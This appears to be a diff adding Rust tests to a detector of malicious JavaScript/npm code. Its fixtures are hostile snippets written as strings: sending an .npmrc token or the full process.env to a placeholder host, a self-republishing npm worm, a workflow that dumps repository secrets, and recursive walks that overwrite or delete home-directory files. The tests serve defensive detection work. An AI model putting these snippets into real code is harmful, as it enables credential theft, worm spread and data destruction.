@@ -270,6 +270,57 @@ fn what_flows_is_followed() {
 }
 
 #[test]
+fn a_token_that_is_shown_to_a_server_of_the_users_own() {
+    let client = "const fs = require('fs'), path = require('path');
+        class Registry { constructor(url, root) { this.url = url; this.token = Registry.file(path.join(root, '.npmrc')); }
+          static file(f) { return fs.readFileSync(f, 'utf8').match(/_authToken=(.+)/)?.[1]; }
+          async get(route) { HEADERS; return fetch(TO, SENT); } }";
+    let own = "this.url + route";
+    for (headers, to, sent, harm) in [
+        ("const headers = { authorization: `Bearer ${this.token}` }", own, "{ headers }", false),
+        (
+            "const headers = this.token ? { Authorization: 'Bearer ' + this.token } : {}",
+            own,
+            "{ headers }",
+            false,
+        ),
+        ("", own, "{ headers: { authorization: this.token } }", false),
+        ("", "'https://a.invalid/' + route", "{ headers: { authorization: this.token } }", true),
+        ("", "'https://a.invalid' + route", "{ headers: { authorization: this.token } }", true),
+        ("", "`https://a.invalid${route}`", "{ headers: { authorization: this.token } }", true),
+        ("", own, "{ method: 'POST', body: this.token }", true),
+        ("", own, "{ headers: { 'x-note': this.token } }", true),
+    ] {
+        let code = client.replace("HEADERS", headers).replace("TO", to).replace("SENT", sent);
+        assert_eq!(flows(&code).iter().any(|flow| flow == "secret-file->net"), harm, "{code}");
+    }
+}
+
+/// A function that picks what it names out of an environment that it is given.
+#[test]
+fn one_variable_of_a_given_environment_is_not_all_of_it() {
+    for code in [
+        "function s(env = process.env) { return { token: env.TOKEN, from: env.FROM }; } fetch('https://a.invalid', { body: JSON.stringify(s()) })",
+        "const s = (env) => ({ token: env.TOKEN }); fetch('https://a.invalid', { headers: s(process.env) })",
+        "class C { constructor({ token }) { this.token = token; } send() { fetch('https://a.invalid', { body: this.token }); } }
+         const s = (env = process.env) => ({ token: env.T }); new C(s()).send();",
+        "const T = [{ is: (e) => e.CI, map: (e) => ({ sha: e.SHA }) }]; const t = T.find((p) => p.is(x));
+         fetch('https://a.invalid', { body: JSON.stringify({ ...t.map(process.env) }) })",
+    ] {
+        let found = flows(code);
+        assert!(!found.iter().any(|flow| flow == "env-all->net"), "{code}\n  gives {found:?}");
+    }
+    for code in [
+        "function s(env = process.env) { return { env, from: env.FROM }; } fetch('https://a.invalid', { body: JSON.stringify(s()) })",
+        "const s = (e) => ({ ...e, at: 1 }); fetch('https://a.invalid', { body: JSON.stringify(s(process.env)) })",
+        "const s = (e) => Object.keys(e).map((k) => k + e[k]).join(); fetch('https://a.invalid', { body: s(process.env) })",
+    ] {
+        let found = flows(code);
+        assert!(found.iter().any(|flow| flow == "env-all->net"), "{code}\n  gives {found:?}");
+    }
+}
+
+#[test]
 fn what_does_not_flow_is_not_reported() {
     for code in [
         "require('child_process').spawn('ls', [], { env: process.env })",
@@ -326,6 +377,42 @@ fn shapes_and_guards_are_seen() {
             "worm",
         ),
         ("require('fs').writeFileSync('.github/workflows/x.yml', y)", "worm"),
+        (
+            "const fs = require('fs'), { execFileSync } = require('child_process');
+             for (const name of mine) { m.version = bump(m.version, 'patch'); m.scripts = { ...m.scripts, postinstall: 'x patch' }; fs.writeFileSync(at, JSON.stringify(m)); execFileSync('npm', ['publish', '--registry', url], { cwd: dir }); }",
+            "worm",
+        ),
+        (
+            "export const all = [{ file: '.github/workflows/d.yaml', text: ['ALL: ${{ toJSON(secrets) }}', 'run: echo ${{ github.event.discussion.body }}'] }]",
+            "worm",
+        ),
+        (
+            "const fs = require('fs'), path = require('path'); const u = (s) => Buffer.from(s, 'base64').toString('utf8');
+             function settle(dir, mark) { for (const n of fs.readdirSync(dir)) { const p = path.join(dir, n);
+               if (fs.lstatSync(p).isDirectory()) settle(p, mark); else fs.writeFile(p, mark, () => {}); } }
+             settle(process.cwd(), u('4p2k77iP')); [a, b].forEach((d) => settle(d, 'x'));",
+            "destructive-walk",
+        ),
+        (
+            "import { readdir, truncate } from 'node:fs/promises'; import { join } from 'node:path';
+             const go = async (dir) => { for (const e of await readdir(dir, { withFileTypes: true })) { const p = join(dir, e.name);
+               if (e.isDirectory()) await go(p); else await truncate(p).catch(() => {}); } }; go('..');",
+            "destructive-walk",
+        ),
+        (
+            "const { walk } = require('./walk'), fs = require('fs'), { homedir } = require('os');
+             for (const f of walk(homedir())) fs.writeFile(f, 'x', () => {});",
+            "destructive-walk",
+        ),
+        (
+            "const { walk } = require('./walk'), fs = require('fs/promises'), os = require('os');
+             (async () => { for (const f of await walk(os.homedir())) { try { await fs.unlink(f); } catch {} } })();",
+            "destructive-walk",
+        ),
+        (
+            "const garble = require('./garble'); for (let i = 666; i < Infinity; i++) { if (i % 3 === 0) console.log('a'); console.log(garble(`x ${i}`)); }",
+            "endless-loop",
+        ),
         ("eval(function(p,a,c,k,e,d){return p}('x',1,1,''.split('|'),0,{}))", "packed-eval"),
     ];
     for (code, expected) in cases {
@@ -348,6 +435,24 @@ fn honest_conditions_and_assignments_are_no_shapes() {
         "require('fs').rmSync(path.join(require('os').homedir(), '.cache', 'x'))",
         "require('child_process').exec('npm install')",
         "var _0x1234 = 1",
+        // What is written depends on the file, or on who calls.
+        "const fs = require('fs'), path = require('path');
+         function tidy(dir, text) { for (const n of fs.readdirSync(dir)) { const p = path.join(dir, n);
+           if (fs.statSync(p).isDirectory()) tidy(p, text); else fs.writeFileSync(p, text); } } exports.tidy = tidy;",
+        "const fs = require('fs'), path = require('path'); const make = (kind) => render(kind);
+         function each(dir) { for (const n of fs.readdirSync(dir)) { const p = path.join(dir, n);
+           if (fs.statSync(p).isDirectory()) each(p); else if (n === 'a.md') fs.writeFileSync(p, make('readme')); } } each(x);",
+        "const { walk } = require('./walk'), fs = require('fs'), { homedir } = require('os');
+         for (const f of walk(homedir())) if (f.endsWith('.tmp')) fs.unlinkSync(f);",
+        "const { walk } = require('./walk'), fs = require('fs'); for (const f of walk('dist')) fs.unlinkSync(f);",
+        "import { readFileSync, writeFileSync } from 'node:fs'; const pkg = JSON.parse(readFileSync('package.json', 'utf8'));
+         pkg.version = process.argv[2]; pkg.scripts = { postinstall: 'node install.js' }; writeFileSync('dist/package.json', JSON.stringify(pkg));",
+        "const { scripts } = m; delete scripts.postinstall; m.scripts.postinstall = undefined; m.scripts = { ...m.scripts, build: 'tsc' };
+         require('fs').writeFileSync(at, JSON.stringify(m));",
+        // Loops that talk with somebody.
+        "for (;;) console.log(run(ask('> ')));",
+        "exports.run = () => { for (let i = 0; i < Infinity; i++) console.log(step(i)); };",
+        "const TEXT = 'SECRETS: ${{ toJSON(secrets) }}'; const at = '.github/workflows/ci.yml'; const run = 'run: npm test';",
     ] {
         assert_eq!(shapes(code), Vec::<String>::new(), "{code}");
     }
